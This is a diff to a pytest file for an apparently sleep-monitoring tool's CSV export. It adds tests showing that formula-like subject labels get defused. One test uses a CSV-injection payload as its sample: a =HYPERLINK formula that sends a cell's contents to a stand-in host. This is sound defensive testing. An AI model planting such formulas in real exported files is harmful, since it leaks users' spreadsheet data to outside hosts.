@@ -11,7 +11,7 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from rls_monitor.errors import ConfigError, StorageError
+from rls_monitor.errors import ConfigError, RLSMonitorError, StorageError
 from rls_monitor.export import (
     MOVEMENT_COLUMNS,
     NIGHT_COLUMNS,
@@ -20,8 +20,11 @@ from rls_monitor.export import (
     night_row,
     record_from_result,
 )
+from rls_monitor.export.tables import csv_text
+from rls_monitor.nights.importing import import_recording
 from rls_monitor.storage import Store
 from tests.export.nightstore import DEVICE, START_UTC, SUBJECT, FixtureStore
+from tests.storage.conftest import simulated_recording, threshold_scorer
 
 REPO = Path(__file__).resolve().parents[2]
 
@@ -160,7 +163,7 @@ def test_export_refuses_what_it_cannot_do(three_nights: FixtureStore, tmp_path: 
             export(store, tmp_path / "x.xml", "xml")
         with pytest.raises(ConfigError, match="movements"):
             export(store, tmp_path / "x.edf", "edf", night=1, movements=True)
-        with pytest.raises(ConfigError, match="no scored night"):
+        with pytest.raises(RLSMonitorError, match="no scored night"):
             export(store, tmp_path / "x.csv", "csv", subject="nobody")
 
 
@@ -237,3 +240,35 @@ def test_calibration_state_is_the_one_the_night_was_scored_with(tmp_path: Path) 
         assert "none; none" in f.getPrefilter(0)
     finally:
         f.close()
+
+
+def test_a_label_cannot_become_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """CSV injection: a subject label such as =HYPERLINK(...) is text; numbers stay numbers."""
+    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    db = tmp_path / "n.sqlite"
+    with Store(db) as store:
+        for subject in (evil, "+1 night", "-x", "@SUM(A1)", "-3.5", "P01"):
+            rec = simulated_recording(600.0)
+            import_recording(store, rec, subject=subject, scorer=threshold_scorer)
+        export(store, tmp_path / "nights.csv", "csv")
+        export(store, tmp_path / "lm.csv", "csv", movements=True)
+    with (tmp_path / "nights.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    subjects = [r["subject"] for r in rows]
+    assert subjects == ["'" + evil, "'+1 night", "'-x", "'@SUM(A1)", "-3.5", "P01"]
+    for row in rows:  # every number is still a plain number a spreadsheet reads as one
+        float(row["night_id"])
+        float(row["plm_per_h"])
+        assert not row["plm_per_h"].startswith("'")
+    with (tmp_path / "lm.csv").open(newline="", encoding="utf-8") as fh:
+        lm = list(csv.DictReader(fh))
+    assert lm and all(not r["subject"].startswith(("=", "+", "@", "\t")) for r in lm)
+    assert all(float(r["onset_s"]) >= 0.0 for r in lm)
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1e3", "-1e3"), ("a=b", "a=b")],
+)
+def test_csv_text_defuses_formulas_only(text: str, written: str) -> None:
+    assert csv_text(text) == written
